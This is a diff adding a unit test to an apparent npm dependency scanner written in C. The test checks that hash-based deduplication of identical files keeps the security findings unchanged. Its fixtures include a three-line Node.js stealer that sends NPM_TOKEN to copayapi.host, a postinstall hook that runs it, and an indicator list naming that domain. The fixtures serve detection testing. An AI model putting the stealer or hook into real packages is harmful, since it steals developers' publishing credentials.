@@ -744,6 +744,103 @@ static void test_shipped_advisories(void **state)
     deps_corpus_free(c);
 }
 
+/* ------------------------------------------------------------------ content */
+
+/* A stand-in for SHA-256 (guards has none): 32 bytes from four FNV-1a 64 of the bytes. */
+static void test_digest(const void *data, size_t len, uint8_t out[32])
+{
+    for (uint64_t k = 0; k < 4; k++) {
+        uint64_t h = 0xcbf29ce484222325ull ^ k;
+        for (size_t i = 0; i < len; i++)
+            h = (h ^ ((const unsigned char *)data)[i]) * 0x100000001b3ull;
+        memcpy(out + 8 * k, &h, 8);
+    }
+}
+
+/* Copies of one file (a version installed twice, the same bytes elsewhere): with a hash
+ * function the engine analyses each content once per path and flags and replays the hits;
+ * the report is the one of analysing every file, and what depends on the path or on the
+ * file being an install-time target still does. */
+static void test_content_copies(void **state)
+{
+    static const char iocs[] = "# version: 2026-03-01.1\ndomain\tcopayapi.host\ttest incident\n";
+    static const char stealer[] = "const https = require('https');\n"
+                                  "const t = process.env.NPM_TOKEN;\n"
+                                  "https.get('https://copayapi.host/c?t=' + t);\n";
+    static const char elf[] = "\x7f"
+                              "ELF\x02\x01\x01xxxxxxxxxx"; /* the fixtures are C strings */
+#define MAN_A                                                                                 \
+    "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{\"postinstall\":" \
+    "\"node setup.js\"}}"
+    struct deps_file cf[] = {{"iocs.tsv", iocs, sizeof(iocs) - 1}};
+    struct deps_corpus *c = NULL;
+    struct deps_report *r[2];
+    char err[256];
+    (void)state;
+
+    assert_int_equal(deps_corpus_new(cf, 1, "", &c, err, sizeof(err)), 0);
+    struct fixture x =
+        fx("package.json", ROOT_PKG("\"a\":\"1.0.0\",\"b\":\"1.0.0\",\"c\":\"1.0.0\""),
+           "node_modules/a/package.json", MAN_A, "node_modules/a/setup.js", stealer,
+           "node_modules/a/bin/tool", elf, "node_modules/b/package.json",
+           "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"MIT\"}",
+           "node_modules/b/node_modules/a/package.json", MAN_A,
+           "node_modules/b/node_modules/a/setup.js", stealer,
+           "node_modules/b/node_modules/a/bin/tool", elf, "node_modules/c/package.json",
+           "{\"name\":\"c\",\"version\":\"1.0.0\",\"license\":\"MIT\"}", "node_modules/c/setup.js",
+           stealer, "node_modules/c/tool", elf, NULL);
+    for (int pass = 0; pass < 2; pass++) {
+        struct deps_project *p = NULL;
+        struct deps_project_error e;
+        c->sha256 = pass ? test_digest : NULL; /* pass 1: through the memo */
+        assert_int_equal(deps_project_load(x.f, x.n, NULL, &p, &e), 0);
+        assert_int_equal(deps_scan(p, c, &r[pass]), 0);
+        deps_project_free(p);
+    }
+    if (r[1]->n_findings != r[0]->n_findings) {
+        dump(r[0]);
+        dump(r[1]);
+    }
+    assert_int_equal(r[1]->n_findings, r[0]->n_findings);
+    for (size_t i = 0; i < r[0]->n_findings; i++) {
+        const struct deps_finding *f0 = &r[0]->findings[i], *f1 = &r[1]->findings[i];
+        assert_string_equal(f1->rule_id, f0->rule_id);
+        assert_int_equal(f1->severity, f0->severity);
+        assert_string_equal(f1->package, f0->package);
+        assert_string_equal(f1->file, f0->file);
+        assert_int_equal(f1->line, f0->line);
+        assert_string_equal(f1->message, f0->message);
+        assert_string_equal(f1->fingerprint, f0->fingerprint);
+    }
+    /* both copies of a: read at install time, credentials + network, in its own file */
+    size_t cred_a = 0, ioc = 0, bund = 0;
+    for (size_t i = 0; i < r[1]->n_findings; i++) {
+        const struct deps_finding *f = &r[1]->findings[i];
+        if (strcmp(f->rule_id, "L2-CRED-001") == 0 && strcmp(f->package, "a") == 0) {
+            cred_a++;
+            assert_int_equal(f->severity, DEPS_SEV_CRITICAL);
+            assert_true(strcmp(f->file, "node_modules/a/setup.js") == 0 ||
+                        strcmp(f->file, "node_modules/b/node_modules/a/setup.js") == 0);
+        }
+        ioc += strcmp(f->rule_id, "L2-IOC-001") == 0;
+        if (strcmp(f->rule_id, "L2-BUND-001") == 0) {
+            bund++;
+            /* in a's bin/ folder, where packages ship binaries; at c's root, not */
+            assert_int_equal(f->severity,
+                             strcmp(f->package, "a") == 0 ? DEPS_SEV_LOW : DEPS_SEV_MEDIUM);
+        }
+    }
+    assert_true(cred_a >= 2);
+    assert_int_equal(count(r[1], "L2-CRED-001", "c"), 0); /* same bytes, not run at install */
+    assert_int_equal(ioc, 3);
+    assert_int_equal(bund, 3);
+    deps_report_free(r[0]);
+    deps_report_free(r[1]);
+    c->sha256 = NULL;
+    deps_corpus_free(c);
+#undef MAN_A
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -765,6 +862,7 @@ int main(void)
         cmocka_unit_test(test_json_contract),
         cmocka_unit_test(test_errors),
         cmocka_unit_test(test_shipped_advisories),
+        cmocka_unit_test(test_content_copies),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
 }
